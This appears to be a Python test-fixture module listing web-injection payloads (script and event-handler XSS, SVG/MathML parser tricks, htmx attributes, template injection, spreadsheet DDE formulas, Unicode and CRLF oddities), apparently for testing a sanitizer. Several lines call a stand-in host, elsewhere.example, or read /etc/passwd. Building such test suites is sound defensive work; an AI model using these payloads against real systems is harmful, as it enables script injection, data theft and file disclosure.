"""Texts that mean harm, of our own writing. What runs calls ran() or alert(), or leaves a mark named ran."""

SCRIPTS = """
<script>alert(1)</script>
<script>ran()</script>
<SCRIPT>ran()</SCRIPT>
<ScRiPt >ran()</sCrIpT >
<script/x>ran()</script>
<script\t>ran()</script\t>
<script src=//elsewhere.example/ran.js></script>
<script src=data:text/javascript,ran()></script>
<script type=module>ran()</script>
<script type="text/javascript" defer>ran()</script>
<script>/*<!--*/ran()/*-->*/</script>
<script>ran`1`</script>
<script async src="data:,ran()"></script>
<scr<script>ipt>ran()</scr</script>ipt>
<<script>ran();//<</script>
<script>ran()
</script><script>ran()</script>
--><script>ran()</script>
];]]><script>ran()</script>
%3Cscript%3Eran()%3C/script%3E
&lt;script&gt;ran()&lt;/script&gt;
&#60;script&#62;ran()&#60;/script&#62;
&amp;lt;script&amp;gt;ran()
\\x3cscript\\x3eran()\\x3c/script\\x3e
\\u003cscript\\u003eran()\\u003c/script\\u003e
+ADw-script+AD4-ran()+ADw-/script+AD4-
<noscript><p title="</noscript><img src=x onerror=ran()>">
<script>document.title='ran'</script>
<script>fetch('//elsewhere.example/ran')</script>
"""

EVENTS = """
<img src=x onerror=alert(1)>
<img src=x onerror=ran()>
<img/src=x/onerror=ran()>
<img src=x onerror="ran()" data-ran>
<image src=x onerror=ran()>
<img src=`x` onerror=ran()>
<img srcset=x onerror=ran()>
<body onload=ran()>
<body onpageshow=ran()>
<input autofocus onfocus=ran()>
<select autofocus onfocus=ran()><option>x
<textarea autofocus onfocus=ran()>
<button autofocus onfocus=ran() class=ran>x</button>
<details open ontoggle=ran()><summary>x
<video src=x onerror=ran()></video>
<video><source onerror=ran()></video>
<audio src=x onerror=ran()>
<object data=x onerror=ran()></object>
<embed src=x onload=ran()>
<iframe onload=ran()></iframe>
<iframe srcdoc="<script>parent.ran()</script>">
<iframe src=javascript:parent.ran()></iframe>
<frameset onload=ran()>
<marquee onstart=ran()>x</marquee>
<link rel=stylesheet href=x onerror=ran()>
<style onload=ran()></style>
<div onmouseover=ran() style=position:fixed;inset:0>
<p onpointerenter=ran()>come nearer
<a href=# onclick=ran() id=ran>click
<form onformdata=ran() oninput=ran()><input>
<div style=animation-name:x onanimationstart=ran()>
<div contenteditable onbeforeinput=ran()>
<dialog open onclose=ran()>
<b onbeforetoggle=ran() popover id=ran>x</b>
<x contenteditable onblur=ran() tabindex=1 autofocus>
<input type=image src=x onerror=ran()>
<meta http-equiv=refresh content="0;url=//elsewhere.example/ran">
<base href=//elsewhere.example/>
"""

FOREIGN = """
<svg onload=ran()>
<svg/onload=alert(1)//
<svg><script>ran()</script></svg>
<svg><script href=data:,ran() /></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set onbegin=ran() attributename=x>
<svg><a xlink:href=javascript:ran()><text y=9>x
<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x">
<svg><foreignObject><img src=x onerror=ran()>
<svg><style><img src=x onerror=ran()></style>
<svg><desc><img src=x onerror=ran()></desc></svg>
<svg><title><style><!--</title><img src=x onerror=ran()>
<math><mtext><script>ran()</script></mtext></math>
<math href=javascript:ran()>x</math>
<math><mi//xlink:href="javascript:ran()">x
<math><mtext><table><mglyph><style><img src=x onerror=ran()>
<form><math><mtext></form><form><mglyph><style></math><img onerror=ran()>
<table><td><svg><style><a id="</style><img src=x onerror=ran()>">
<p><svg></p><style><a title="</style><img src=x onerror=ran()>">
<select><template><img src=x onerror=ran()></template></select>
<template shadowrootmode=open><img src=x onerror=ran()></template>
<xmp><p title="</xmp><img src=x onerror=ran()>">
<listing>&lt;img src=x onerror=ran()&gt;</listing>
<plaintext><img src=x onerror=ran()>
<!--><img src=x onerror=ran()>-->
<!--!> --!><img src=x onerror=ran()>
<![CDATA[<img src=x onerror=ran()>]]>
<?xml-stylesheet href="javascript:ran()"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
<a><b></a></b><img src=x onerror=ran()>
"""

ADDRESSES = """
javascript:ran()
JaVaScRiPt:alert(1)
java\tscript:ran()
 javascript:ran()
javascript://%0aran()
vbscript:ran()
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==
//elsewhere.example/ran
https://elsewhere.example/ran?a=1&b=<b>
[click](javascript:ran())
![x](x" onerror="ran())
<a href=javascript:ran() id=ran>click</a>
<form action=javascript:ran()><button id=ran>x</button></form>
<button formaction=javascript:ran() class=ran>x</button>
<javascript:ran()>
"""

BREAKOUTS = """
" onmouseover="ran()
' onmouseover='ran()
" autofocus onfocus=ran() x="
' autofocus onfocus=ran() x='
"><img src=x onerror=ran()>
'><img src=x onerror=ran()>
"/><script>ran()</script>
` onerror=ran() `
x" data-ran="1
x' class='ran
</textarea><img src=x onerror=ran()>
</title><img src=x onerror=ran()>
</style><img src=x onerror=ran()>
</script><script>ran()</script><script>
</option></select><img src=x onerror=ran()>
</pre></code><img src=x onerror=ran()>
</a></td></tr></table><img src=x onerror=ran()>
</svg><img src=x onerror=ran()>
</main></body></html><script>ran()</script>
<mark><img src=x onerror=ran()></mark>
"};ran();//
'};ran();//
\\";ran();//
\\';ran();//
"}]}</script><script>ran()</script>
{"__proto__":{"ran":1},"x":"</script>
*/ran()/*
;}body{background:url(//elsewhere.example/ran)}
expression(ran())
@import '//elsewhere.example/ran.css';
<style>*{background:url(//elsewhere.example/ran)}</style>
<link rel=stylesheet href=//elsewhere.example/ran.css>
x;url(javascript:ran())
"],"x":alert(1)//
"""

HTMX = """
<div hx-get=/leave/ hx-trigger=load data-ran>
<div data-hx-post=/leave/ data-hx-trigger=load>
<div hx-on:click=ran()>x</div>
<div hx-on::load=ran()>x</div>
<div hx-vals='js:{x:ran()}' hx-post=/theme/ hx-trigger=load>
<div hx-trigger="load[ran()]" hx-get=/>
<b hx-swap-oob=true id=main class=ran>gone</b>
<div hx-get=//elsewhere.example/ran hx-trigger=load>
<body hx-ext=ran hx-headers='js:{x:ran()}'>
<meta name=htmx-config content='{"allowEval":true}' data-ran>
" hx-get="/leave/" hx-trigger="load
every 1s, load[ran()] from:body
"""

TEMPLATES = """
{{ 7*191 }}
{{ request.session }}
{{ settings.SECRET_KEY }}
{% debug %}
{% load static %}{% csrf_token %}
{% endblock %}{% include "admin/base.html" %}
{# gone #}
{{ "x"|safe }}
${7*191}
#{7*191}
<%= 7*191 %>
{{constructor.constructor('ran()')()}}
{0.__class__.__init__.__globals__}
%(password)s %s %n %x
[[${T(java.lang.Runtime)}]]
"""

MATH = """
$x_{
$\\frac{1}{0}$
$$
^{
_{x
\\mathdefault{
\\input{/etc/passwd}
$\\unknowncommand$
100% $5 and 3^2_1
\\$
$<script>ran()</script>$
a_b^c
"""

FORMULAS = """
=1+1
=cmd|'/C calc'!A0
=HYPERLINK("http://elsewhere.example/ran","x")
=WEBSERVICE("http://elsewhere.example/ran")
@SUM(1+1)*cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3
-1;=1+1
x;=1+1
"=1+1
,=1+1
\uff1d1+1
\uff0b1
\uff0d1
\uff20SUM(1)
\u00a0=1+1
DDE("cmd";"/C calc";"x")
"""

LETTERS = [
    "\u202egnp.exe\u202c",
    "\u202eright to left, never closed",
    "\u2066isolate, never closed",
    "\u2067<script>ran()</script>",
    "\u202a\u202b\u202d\u202e\u202c",
    "\u200fרִאשׁוֹן and left",
    "مرحبا <b>x</b> 123",
    "zero\u200bwidth\u200c\u200d\u2060joined\ufeff",
    "\u2028<script>ran()</script>",
    "x\u2029ran()//",
    "\u0085next line",
    "\u00a0no\u00a0break\u3000wide",
    "\ufffd\ufffe\uffff<img src=x onerror=ran()>",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0311\u0357l",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "\u02b9\u02ba onerror=ran()",
    "\u017fcript \u212aelvin İstanbul ß ﬃ",
    "\u0430dmin \u0455\u0441ript",
    "\U0010ffff\U000f0000",
    "\u0300\u0301 combining first",
    "\u115f\u3164\uffa0x",
    "\x1b[31mred\x07\x08",
    "x\x0b\x0c<img\x0csrc=x\x0conerror=ran()>",
    "first line\n<script>ran()</script>\nthird",
    "first\r\n\r\nSet-Cookie: ran=1",
    "\t=1+1",
    "one\rtwo",
]


def lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


PAYLOADS = [
    *(line for part in (SCRIPTS, EVENTS, FOREIGN, ADDRESSES, BREAKOUTS) for line in lines(part)),
    *(line for part in (HTMX, TEMPLATES, MATH, FORMULAS) for line in lines(part)),
    *LETTERS,
]
